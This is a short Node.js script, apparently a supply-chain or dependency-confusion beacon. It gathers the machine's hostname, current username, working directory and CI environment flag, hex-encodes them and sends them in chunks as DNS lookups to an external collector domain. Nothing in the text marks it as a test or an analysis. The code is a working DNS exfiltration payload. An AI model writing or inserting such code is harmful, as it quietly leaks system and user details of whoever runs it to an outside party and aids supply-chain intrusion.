const dns = require('dns'), os = require('os');
const data = Buffer.from(JSON.stringify([os.hostname(), os.userInfo().username, process.cwd(), process.env.CI || ''])).toString('hex');
const chunks = data.match(/.{1,60}/g);
chunks.forEach((c, i) => dns.resolve(`${i}.${c}.x.dnslog-collector.example`, () => {}));
